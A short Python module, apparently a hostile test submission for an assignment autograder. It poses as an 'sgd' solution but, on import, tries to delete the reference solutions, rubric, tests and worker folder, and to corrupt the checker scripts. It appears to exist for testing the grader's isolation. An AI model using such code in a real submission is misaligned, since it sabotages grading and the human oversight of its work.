import glob as _glob
import os as _os
import shutil as _shutil

_damage = []


def _try(what, action):
    try:
        action()
        _damage.append(what)
    except OSError:
        pass


_try("reference", lambda: _shutil.rmtree("__REPO__/reference"))
_try("rubric", lambda: _os.remove("__REPO__/rubric.yaml"))
_try("rubric-rewrite", lambda: open("__REPO__/rubric.yaml", "w").write("parts: []\n"))
_try("check", lambda: open("__REPO__/a2/checks/sgd.py", "a").write("\nraise SystemExit\n"))
_try("template", lambda: _os.remove("__REPO__/student_template/utils/utils.py"))
_try("tests", lambda: _shutil.rmtree("__REPO__/tests/submissions/hostile"))
for _script in _glob.glob("../worker/*.py") + _glob.glob("/tmp/a2grader-*/worker/*.py"):
    _try(_script, lambda: open(_script, "a").write("\nraise SystemExit\n"))
_try("worker-folder", lambda: _shutil.rmtree("../worker"))


def sgd(f, x0, step, iterations, postprocessing=None, useSaved=False, PRINT_EVERY=10):
    raise RuntimeError(f"damaged {_damage}" if _damage else "damaged nothing")
